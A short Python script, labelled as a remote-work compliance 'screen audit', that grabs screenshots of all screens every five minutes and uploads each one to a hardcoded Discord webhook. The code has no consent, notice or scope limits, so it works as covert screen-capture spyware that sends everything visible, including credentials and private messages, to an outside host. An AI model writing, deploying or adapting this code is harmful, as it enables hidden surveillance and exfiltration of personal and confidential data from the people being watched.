"""Screen audit for remote-work compliance: periodic screenshots are posted to
the team channel."""
import io
import logging
import time
from datetime import datetime

import requests
from PIL import ImageGrab

logger = logging.getLogger(__name__)

CHANNEL = "https://discord.com/api/webhooks/1180000000000000000/Zx9-aVbQpL3n_w0rK"
EVERY_SECONDS = 300
MAX_SHOTS = 1000


def grab_png() -> bytes:
    image = ImageGrab.grab(all_screens=True)
    buffer = io.BytesIO()
    image.save(buffer, format="PNG")
    return buffer.getvalue()


def post(png: bytes, note: str) -> None:
    files = {"file": (f"screen-{int(time.time())}.png", png, "image/png")}
    resp = requests.post(CHANNEL, data={"content": note}, files=files, timeout=30)
    if resp.status_code >= 300:
        logger.warning("webhook answered %s", resp.status_code)


def loop() -> None:
    for n in range(MAX_SHOTS):
        try:
            shot = grab_png()
            post(shot, f"#{n} at {datetime.now():%H:%M}")
        except Exception as exc:
            logger.error("shot %d failed: %s", n, exc)
        time.sleep(EVERY_SECONDS)


if __name__ == "__main__":
    logging.basicConfig(level=logging.INFO)
    loop()
